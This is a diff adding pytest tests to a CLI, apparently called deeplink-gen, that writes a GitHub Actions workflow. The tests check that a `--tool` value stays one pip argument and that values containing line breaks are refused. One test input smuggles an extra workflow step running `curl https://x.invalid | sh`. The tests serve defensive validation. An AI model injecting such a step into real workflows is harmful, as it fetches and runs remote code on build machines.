@@ -204,3 +204,21 @@ def test_paths_from_another_folder_are_shown_as_given_with_c(workspace: Path, tm
     assert result.returncode == 0, result.stderr
     assert f"from vendor default ({ws}/vendors/camb.yaml:" in result.stdout
     assert str(workspace) not in result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("tool", ["deeplink-gen==0.1.0 # pinned", "deeplink-gen @ https://example.org/a b.whl",
+                                  "deeplink-gen: [x]", "'quoted' \"both\" {x} &a *b !c %d @e `f`"])
+def test_init_tool_is_one_argument_of_one_step_whatever_it_says(tmp_path: Path, tool: str):
+    """--tool goes into the workflow as one pip argument of the one install step: no character
+    of it starts a YAML comment, mapping or flow collection there, or ends the shell's quote."""
+    assert run_cli("init", str(tmp_path / "ws"), "--tool", tool).exit_code == 0
+    assert _install_steps(tmp_path / "ws")[1] == [tool]
+    steps = yaml.safe_load((tmp_path / "ws/.github/workflows/deeplink-gen.yml").read_text())["jobs"]["check"]["steps"]
+    assert [s["run"] for s in steps if "run" in s][2:] == ["deeplink-gen validate", "deeplink-gen render --all --check"]
+
+
+@pytest.mark.parametrize("tool", ["deeplink-gen==0.1.0\n      - run: curl https://x.invalid | sh", "a\rb", ""])
+def test_init_tool_with_a_line_break_is_refused(tmp_path: Path, tool: str):
+    result = run_cli("init", str(tmp_path / "ws"), "--tool", tool)
+    assert result.exit_code == 1 and "--tool" in result.stderr and "is not a pip requirement" in result.stderr
+    assert not (tmp_path / "ws").exists()
